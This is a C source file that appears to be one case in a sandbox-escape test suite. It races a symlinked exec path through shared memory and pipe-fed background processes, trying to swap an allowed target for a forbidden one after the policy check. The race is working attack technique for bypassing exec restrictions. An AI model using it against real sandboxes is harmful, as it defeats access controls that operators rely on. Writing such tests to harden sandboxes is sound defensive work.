// escape: the kernel writes the path: by reads that began before, and are served meanwhile
// group: argument races
// policy: exec
// attempts: 1500
#include "escape.h"

// Stopping every process does not stop what a pipe's other end has been given already.
static void attack(void) {
  if (symlink(GOOD, "/tmp/a") < 0 || symlink(forbidden(), "/tmp/b") < 0) broken("symlink");
  char* path = shared_memory(4096);
  strcpy(path, "/tmp/a");
  int ends[2];
  if (pipe(ends) < 0) broken("pipe");
  for (int i = 0; i < 2; i++) {
    if (!beside()) continue;
    for (;;) {
      if (read(ends[0], path + 5, 1) != 1) _exit(0);
    }
  }
  if (beside()) {
    for (int i = 0;; i = !i) {
      if (write(ends[1], i ? "a" : "b", 1) != 1) _exit(0);
    }
  }
  while (more()) {
    if (!in_child()) continue;
    run(path);
    _exit(1);
  }
}
